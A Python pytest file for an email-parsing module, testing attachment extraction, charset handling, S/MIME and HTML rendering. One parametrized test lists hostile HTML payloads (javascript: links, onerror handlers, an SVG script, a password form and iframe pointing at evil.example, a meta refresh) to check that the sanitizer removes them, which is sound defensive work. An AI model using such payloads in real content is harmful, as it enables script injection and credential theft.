"""What a mail says, and which files it brings."""

from __future__ import annotations

import pytest

from psa.mail.message import attachment_bytes, parse, render_html
from tests.mail.message.reading import read


def test_text_around_a_picture_is_kept_in_order():
    email = read("apple_text_picture_text.eml")
    assert email.text == "Before the picture.\n\nAfter the picture."
    assert [a.name for a in email.attachments] == ["p.png"]


def test_an_empty_text_alternative_gives_way_to_the_html():
    email = read("empty_text_alternative.eml")
    assert email.text.split() == ["Floor", "3", "Only", "here."]


def test_a_message_that_is_one_pdf_is_an_empty_body_and_a_file():
    email = read("only_a_pdf.eml")
    assert email.text == ""
    (file,) = email.attachments
    assert (file.type, file.size, file.part) == ("application/pdf", 13, "1")
    assert file.name.endswith(".pdf")


def test_names_of_files_are_decoded_never_a_path_and_never_alike():
    names = [a.name for a in read("attachment_names.eml").attachments]
    assert names == ["Übersicht 2026.pdf", "Übersicht 2026 (2).pdf", "notes.txt"]


def test_the_type_of_an_unlabelled_file_is_told_by_its_bytes():
    assert [a.type for a in read("attachment_names.eml").attachments][1] == "application/pdf"


def test_a_nested_message_is_a_file_named_after_its_subject():
    email = read("nested_message.eml")
    assert email.text == "See the mail below."
    (file,) = email.attachments
    assert (file.name, file.type) == ("Old quarrel.eml", "message/rfc822")
    assert b"not the body" in file.data


def test_the_bytes_of_a_file_are_served_by_its_part_number():
    raw = read("attachment_names.eml").raw
    file, data = attachment_bytes(raw, "2")
    assert (file.name, data) == ("Übersicht 2026.pdf", b"%PDF-1.4 one")
    with pytest.raises(KeyError):
        attachment_bytes(raw, "9.9")


def test_a_uuencoded_file_is_cut_out_of_the_text():
    email = read("uuencoded_file.eml")
    assert email.text == "See the file.\n\n\nBye"
    (file,) = email.attachments
    assert (file.name, file.data) == ("hello.txt", b"hello")


def test_a_wrong_charset_label_does_not_cost_a_letter():
    email = read("wrong_charset.eml")
    assert email.text == "Grüße aus Köln"
    assert len(email.defects) == 1


def test_parts_are_found_when_the_declared_boundary_is_missing():
    email = read("missing_boundary.eml")
    assert email.text == "found anyway"
    assert [a.name for a in email.attachments] == ["a.csv"]
    assert any("boundary" in defect for defect in email.defects)


def test_flowed_lines_are_joined_within_their_quote_depth():
    assert read("format_flowed.eml").text == "This sentence goes on here.\n> quoted too"


def test_a_signed_mail_is_named_as_such_and_readable():
    email = read("signed_smime.eml")
    assert (email.protected, email.text) == ("signed", "Signed words.")


def test_html_is_shown_without_scripts_and_remote_pictures():
    shown = render_html(read("inline_image.eml"), cid_url=lambda part: f"/parts/{part}")
    assert shown is not None
    assert '<img src="/parts/2" alt="fire">' in shown
    assert "script" not in shown and "alert" not in shown and "tracker" not in shown


def test_remote_pictures_are_shown_when_asked_for():
    shown = render_html(read("inline_image.eml"), cid_url=str, remote_images=True)
    assert shown is not None and "https://tracker.example/p.gif" in shown


@pytest.mark.parametrize(
    "hostile",
    [
        '<a href="javascript:alert(1)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<img src="x" onerror="alert(1)">',
        '<form action="https://evil.example"><input name="password"></form>',
        '<div style="position:fixed;top:0;background:url(https://evil.example/x)">x</div>',
        '<div class="modal">x</div>',
        "<svg><script>alert(1)</script></svg>",
        '<iframe src="https://evil.example"></iframe>',
        "<style>body{display:none}</style>",
        '<img src="cid:unknown">',
        '<base href="https://evil.example">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    ],
)
def test_nothing_hostile_in_html_survives(hostile):
    raw = b"Content-Type: text/html\n\n<p>hello</p>" + hostile.encode()
    shown = (parse(raw).html or "").lower()
    for word in (
        "script",
        "javascript",
        "data:",
        "onerror",
        "<form",
        "<input",
        "position",
        "url(",
        "class=",
        "iframe",
        "<style",
        "cid:",
        "<base",
        "<meta",
    ):
        assert word not in shown


def test_an_inline_picture_is_told_from_an_attached_one():
    assert [a.disposition for a in read("inline_image.eml").attachments] == ["inline"]
    assert [a.disposition for a in read("nested_message.eml").attachments] == ["attachment"]
